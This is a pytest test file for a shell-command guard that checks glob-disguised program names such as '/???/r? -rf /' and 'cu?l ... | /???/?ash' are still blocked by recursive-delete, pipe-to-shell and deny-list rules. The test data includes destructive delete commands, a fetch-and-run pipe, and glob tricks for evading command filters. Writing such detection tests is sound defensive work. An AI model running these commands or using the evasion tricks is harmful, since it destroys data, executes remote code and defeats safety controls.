"""classify(): a glob in command position runs whichever program matches it.

``/???/r? -rf /`` is ``/bin/rm -rf /``: the glob is reported as a program name not known
statically, and the command is classified as each known program the glob matches, so the
policy's deny list and the destruction rules still apply. ``[`` alone is the test builtin.
"""

from __future__ import annotations

import pytest

from deerguard import Verdict
from deerguard.shell import classify, parse_policy

DENY_RM = parse_policy('[commands]\ndeny = ["rm"]\n')


@pytest.mark.parametrize("command, rule", [
    ("/???/r? -rf /", "shell.recursive-delete"),
    ("[r]m -rf ~", "shell.recursive-delete"),
    ("/usr/bin/r* -rf /", "shell.recursive-delete"),
    ("/usr/bin/cu?l -s https://h/x | /???/?ash", "shell.pipe-to-shell"),
    ("curl -s https://h/x | /bin/[b]ash", "shell.pipe-to-shell"),
])
def test_glob_program_names_are_classified_as_the_programs_they_match(
        command: str, rule: str) -> None:
    result = classify(command)
    assert result.verdict is Verdict.BLOCK, result.to_dict()
    assert rule in result.rule_ids
    assert "shell.dynamic-command" in result.rule_ids


@pytest.mark.parametrize("command", ["/???/r? f", "/bin/r[m] f", "\\r? f", "sudo /???/r? f"])
def test_deny_list_blocks_a_denied_program_reached_through_a_glob(command: str) -> None:
    result = classify(command, policy=DENY_RM)
    assert result.verdict is Verdict.BLOCK, result.to_dict()
    assert "shell.denied-command" in result.rule_ids


@pytest.mark.parametrize("command", [
    "/bin/ec?o hi", "./script*.sh", "python[0-9] -c 'print(1)'",
])
def test_other_glob_program_names_warn(command: str) -> None:
    assert classify(command).verdict is Verdict.WARN, classify(command).to_dict()


@pytest.mark.parametrize("command", [
    "[ -f x ] && echo ok", "[[ -f x ]]", "ls *.txt", "rm -f *.pyc", "test -f x",
])
def test_globs_in_arguments_and_the_test_builtin_pass(command: str) -> None:
    assert classify(command).verdict is Verdict.PASS, classify(command).to_dict()


@pytest.mark.parametrize("command", ["/bin/r* -rf /", "r* -rf ~", "/usr/local/bin/r? -rf ~"])
def test_a_glob_matching_many_programs_still_tries_the_destroyers_first(command: str) -> None:
    """Matches are capped (bounded work): the programs whose rules matter most are tried
    first, so a glob that also matches dozens of package managers and interpreters (r*:
    rbenv, rustup, racket...) is still classified as the rm it may run."""
    result = classify(command)
    assert result.verdict is Verdict.BLOCK, result.to_dict()
    assert "shell.recursive-delete" in result.rule_ids, result.to_dict()


@pytest.mark.parametrize("command", ["/usr/bin/s* -rf /etc", "/bin/[a-z]* -rf /", "/bin/* x"])
def test_a_glob_matching_denied_programs_blocks(command: str) -> None:
    """The default deny list's programs come first among a glob's matches."""
    result = classify(command)
    assert result.verdict is Verdict.BLOCK, result.to_dict()
    assert "shell.denied-command" in result.rule_ids, result.to_dict()


def test_a_glob_reaches_a_denied_program_before_the_cap() -> None:
    policy = parse_policy('[commands]\ndeny = ["zzz-tool"]\n')
    result = classify("/opt/bin/z* --all", policy=policy)
    assert "shell.denied-command" in result.rule_ids, result.to_dict()
